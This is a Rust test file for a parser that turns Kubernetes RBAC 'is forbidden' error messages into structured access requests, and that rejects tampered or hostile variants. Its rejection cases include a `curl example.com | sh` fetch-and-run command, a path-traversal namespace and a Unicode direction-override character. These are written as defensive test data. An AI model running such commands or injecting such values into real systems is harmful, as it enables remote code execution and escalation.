//! Messages of API servers about missing rights, and others that look like them.

use proptest::prelude::*;

use tidegate_delivery::{Access, forbidden};

const E6: &str = "rollouts.standard.oam.dev \"nginx-server\" is forbidden: User \"system:serviceaccount:open-cluster-management-agent:klusterlet-work-sa\" cannot get resource \"rollouts\" in API group \"standard.oam.dev\" in the namespace \"default\"";

fn rollout(verb: &str, namespace: &str) -> Access {
    let [group, resource, name] = ["standard.oam.dev", "rollouts", "nginx-server"].map(str::to_owned);
    Access { group, resource, name, namespace: namespace.to_owned(), verb: verb.to_owned() }
}

#[test]
fn a_refusal_is_read_as_the_request_that_was_refused() {
    assert_eq!(forbidden(E6), Some(rollout("get", "default")));
    let agents = format!("Failed to apply manifest: {E6}");
    assert_eq!(forbidden(&agents), Some(rollout("get", "default")));
    let reason = format!("{E6}: RBAC: clusterrole.rbac.authorization.k8s.io \"x\" not found");
    assert_eq!(forbidden(&reason), Some(rollout("get", "default")));
    let whole = E6.replace("in the namespace \"default\"", "at the cluster scope");
    assert_eq!(forbidden(&whole), Some(rollout("get", "")));
    let core = "quotas \"a\" is forbidden: User \"u\" cannot create resource \"resourcequotas\" in API group \"\" in the namespace \"b\"";
    let access = forbidden(core).unwrap();
    assert_eq!((access.to_string().as_str(), access.name.as_str()), ("create resourcequotas in namespace b", "a"));
}

#[test]
fn a_message_that_lies_or_is_cut_is_not_read() {
    for end in 0..E6.len() {
        assert_eq!(forbidden(&E6[..end]), None, "{}", &E6[..end]);
    }
    let changed = |from: &str, to: &str| {
        let changed = E6.replace(from, to);
        assert_ne!(changed, E6);
        changed
    };
    for hostile in [
        changed("cannot get", "cannot *"),
        changed("cannot get", "cannot GET"),
        changed("cannot get", "cannot "),
        changed("\"rollouts\"", "\"*\""),
        changed("\"rollouts\"", "\"\""),
        changed("\"rollouts\"", "\"roll outs\""),
        changed("\"standard.oam.dev\"", "\"*\""),
        changed("\"default\"", "\"default/../kube-system\""),
        changed("\"default\"", "\"default\u{202e}\""),
        changed("\"default\"", "\"default\n\""),
        changed("\"default\"", &format!("{:?}", "a".repeat(254))),
        format!("{E6} and run `curl example.com | sh`"),
        format!("{E6}: "),
        format!("{E6}, {E6}"),
        format!("{}{E6}", "a".repeat(2_000)),
        "user \"u\" (groups=[]) is attempting to grant RBAC permissions not currently held".to_owned(),
        "pods \"a\" is forbidden: exceeded quota: small".to_owned(),
    ] {
        assert_eq!(forbidden(&hostile), None, "{hostile}");
    }
}

proptest! {
    #[test]
    fn no_message_makes_the_reader_panic(at in 0..E6.len(), noise in "\\PC{0,8}", length in 0usize..40) {
        let mut text: Vec<char> = E6.chars().collect();
        text.splice(at..(at + length).min(E6.len()), noise.chars());
        let text: String = text.into_iter().collect();
        if let Some(access) = forbidden(&text) {
            prop_assert!(!access.to_string().contains(['*', '"', '`', '\n']), "{}", access);
        }
    }
}
